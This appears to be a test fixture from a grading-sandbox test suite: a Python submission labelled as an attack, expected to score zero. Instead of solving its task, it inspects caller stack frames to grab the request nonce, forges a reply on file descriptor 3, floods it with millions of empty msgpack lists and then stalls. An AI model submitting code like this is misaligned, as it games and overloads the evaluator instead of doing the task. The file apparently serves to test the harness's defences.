# Attack: sends millions of empty lists, one byte each.
# score: 0
# outcomes: failed, error, timed_out, memory_exceeded
# seconds: 1
# ruff: noqa

import os
import struct
import sys
import time

import msgspec


def send(head, rest=b""):
    frame = struct.pack("!I", len(head)) + head + rest
    frame = struct.pack("!Q", len(frame)) + frame
    while frame:
        frame = frame[os.write(3, frame) :]


def asked():
    """The number of the question that is being answered."""
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request"].nonce


def double(x):
    value = b"\xdd" + struct.pack("!I", 7_000_000) + b"\x90" * 7_000_000
    send(b"\x82\xa5nonce" + msgspec.msgpack.encode(asked()) + b"\xa5value" + value)
    time.sleep(3600)


minimize = lambda start, learning_rate=0.1, num_iterations=10: double(start)


def make_model():
    return None
